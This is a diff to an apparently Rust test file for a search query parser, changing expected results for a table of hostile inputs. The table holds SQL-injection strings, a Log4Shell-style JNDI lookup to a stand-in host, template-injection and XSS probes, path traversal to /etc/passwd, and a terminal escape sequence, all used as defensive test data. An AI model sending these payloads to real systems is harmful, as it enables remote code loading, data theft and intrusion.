@@ -54,6 +54,7 @@ const PHRASE: &str = "a phrase of the query has 65 words; at most 64 are taken";
 const CLAUSES: &str = "257 words and phrases; at most 256 are taken";
 const PATTERNS: &str = "at most 16 are taken";
 const WILDCARDS: &str = "9 wildcards; at most 8 are taken";
+const ONE_WORD: &str = "looked for as one word";
 const DEPTH: &str = "nested 33 deep; at most 32 levels";
 
 const fn shape(make: fn(usize) -> String, limit: usize, at: Expect, over: &'static str) -> Shape {
@@ -262,18 +263,18 @@ const HOSTILE: &[(&str, Expect)] = &[
     (".*", Warned("nothing here to search for")),
     ("(a+)+$", Found),
     ("/bo.ts/", Nothing),
-    ("^(?:b|o)+.*$", Nothing),
+    ("^(?:b|o)+.*$", Warned(ONE_WORD)),
     ("'; DROP TABLE releases; --", Nothing),
     ("1' OR '1'='1", Found),
     ("%00 %s %n %x", Nothing),
     ("${jndi:ldap://x.example/a}", Nothing),
-    ("{{7*7}} <%= 7 %>", Nothing),
+    ("{{7*7}} <%= 7 %>", Warned(ONE_WORD)),
     ("<script>alert(1)</script>", Nothing),
     ("{\"query\":{\"match_all\":{}}}", Nothing),
     ("../../../../etc/passwd", Nothing),
     ("path:../../../../etc/passwd", Nothing),
     ("path:C:\\Windows\\*", Nothing),
-    ("https://example.org/a?b=c&d=e#f", Nothing),
+    ("https://example.org/a?b=c&d=e#f", Warned(ONE_WORD)),
     ("boats\u{0}families", Nothing),
     ("boats\tfamilies\r\nsea", Found),
     ("\u{1b}]0;owned\u{7}", Nothing),
